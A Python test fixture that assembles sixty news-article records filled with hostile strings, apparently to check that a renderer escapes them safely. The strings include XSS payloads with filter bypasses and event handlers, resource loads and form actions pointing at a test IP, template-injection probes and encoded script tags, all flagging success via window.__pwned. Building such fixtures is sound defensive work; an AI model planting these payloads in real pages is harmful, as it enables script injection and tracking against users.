"""Sixty articles that try to get code, requests or forms out of whatever shows them."""

from __future__ import annotations

from chat_fakes import HOSTILE

_MORE = (
    "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
    "<ScRiPt SRC=//192.0.2.1/x.js></sCrIpT>",
    "<body onload=window.__pwned=1>",
    "<details open ontoggle=window.__pwned=1>",
    "<video><source onerror=window.__pwned=1></video>",
    "<audio src=x onerror=window.__pwned=1>",
    "<input autofocus onfocus=window.__pwned=1>",
    "<marquee onstart=window.__pwned=1>x</marquee>",
    "<object data=http://192.0.2.1/x.swf></object>",
    "<embed src=http://192.0.2.1/x.swf>",
    "<math><mtext><img src=x onerror=window.__pwned=1></mtext></math>",
    "<template><script>window.__pwned=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.__pwned=1>'>",
    "<textarea><script>window.__pwned=1</script></textarea>",
    "<title><img src=x onerror=window.__pwned=1></title>",
    "<a href=http://192.0.2.1 ping=http://192.0.2.1>here</a>",
    "<button formaction=http://192.0.2.1>Pay</button>",
    "<svg><use href=http://192.0.2.1/x.svg#a></use></svg>",
    "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>",
    "<picture><source srcset=http://192.0.2.1/a.png></picture>",
    "<div style='background:url(http://192.0.2.1/b.png);position:fixed;inset:0'>x</div>",
    "<style>@import 'http://192.0.2.1/c.css'; * { display: none }</style>",
    "[x]: http://192.0.2.1/y.png\n![y][x]",
    "<http://192.0.2.1/auto> and [a](data:text/html,<script>window.__pwned=1</script>)",
    "{% raw %}{{ 7*7 }}{% endraw %} #{7*7} <%= 7*7 %> ${{7*7}}",
    "\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
    "'; window.__pwned=1; //",
    "</textarea></title></style></script><img src=x onerror=window.__pwned=1>",
    "Z\u0335\u0321\u0322\u0327\u0328" * 400,
    "\u2028window.__pwned=1\u2029 \ufeff \u200b",
)

HOSTILE_TEXTS = (*HOSTILE, *_MORE)
assert len(HOSTILE_TEXTS) == 60


def marker(at: int) -> str:
    """Return a word that only one of the articles has."""
    return f"Quorl{at}mark"


def hostile_articles() -> list[dict[str, object]]:
    """Return the articles as records: the text stands in every field that is shown."""
    return [
        {
            "id": f"{at} {text[:80]}",
            "title": text[:300],
            "source": text[:60],
            "url": text[:200],
            "published": "2025-03-02",
            "text": f"The {marker(at)} was seen on Monday {text} by 12 people near {marker(at)}.",
        }
        for at, text in enumerate(HOSTILE_TEXTS)
    ]
